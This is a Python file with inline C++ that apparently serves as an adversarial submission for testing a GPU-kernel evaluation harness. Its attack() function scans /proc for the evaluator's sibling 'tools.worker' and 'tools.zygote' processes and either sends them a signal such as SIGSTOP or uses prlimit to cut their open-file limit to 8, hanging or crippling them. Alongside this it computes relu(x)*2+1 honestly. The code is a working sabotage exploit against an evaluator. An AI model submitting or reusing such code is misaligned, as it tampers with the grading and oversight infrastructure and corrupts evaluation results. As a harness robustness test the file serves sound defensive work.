"""An attacker with native code that goes after the evaluator's other workers: every other
process whose command line runs `tools.worker` (an exec'd worker) or `tools.zygote` (a worker
forked from a zygote, its keeper, or the zygote itself) — in a worker without bubblewrap: the
evaluator's other workers, among them a warm pool's idle reference worker, started for the next
problem and not sandboxed, and the zygotes the next workers come from. `signal`: it sends signal `arg` (SIGSTOP: a worker
that stays alive and never answers); `prlimit`: it cuts the worker's open-file limit to 8 (a
worker that cannot start, or load its problem). The report says how many it reached. Otherwise
honest: relu(x) * 2 + 1."""
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

SOURCE = r"""
#include <torch/extension.h>
#include <dirent.h>
#include <signal.h>
#include <sys/resource.h>
#include <unistd.h>
#include <cerrno>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>

static std::string slurp(const std::string& path) {
    std::ifstream f(path, std::ios::binary);
    std::stringstream s;
    s << f.rdbuf();
    return s.str();
}

std::string attack(std::string what, std::string arg) {
    if (what != "signal" && what != "prlimit") return "";
    int sig = std::stoi(arg);
    long me = getpid();
    int seen = 0, reached = 0;
    std::string errors;
    DIR* d = opendir("/proc");
    while (struct dirent* e = d ? readdir(d) : nullptr) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        long pid = atol(e->d_name);
        if (pid == me) continue;
        std::string cmd = slurp(std::string("/proc/") + e->d_name + "/cmdline");
        if (cmd.find("tools.worker") == std::string::npos && cmd.find("tools.zygote") == std::string::npos) continue;
        ++seen;
        struct rlimit few = {8, 8};
        if (what == "prlimit" ? prlimit(pid, RLIMIT_NOFILE, &few, nullptr) == 0 : kill(pid, sig) == 0) ++reached;
        else errors += std::string(" ") + strerror(errno);
    }
    if (d) closedir(d);
    return "reached " + std::to_string(reached) + " of " + std::to_string(seen) + " sibling workers" + errors;
}

torch::Tensor compute(torch::Tensor x) { return at::relu(x) * 2 + 1; }
"""
DECLS = "std::string attack(std::string what, std::string arg);\ntorch::Tensor compute(torch::Tensor x);"

extension = load_inline(name="tamper_siblings", cpp_sources=[DECLS, SOURCE], functions=["attack", "compute"],
                        extra_cflags=["-O1"])


class ModelNew(nn.Module):
    def __init__(self, what, arg):
        super().__init__()
        self.what = what
        self.arg = arg

    def forward(self, x):
        report = extension.attack(self.what, self.arg)
        if report:
            raise RuntimeError(f"attack report: {report}")
        return extension.compute(x)
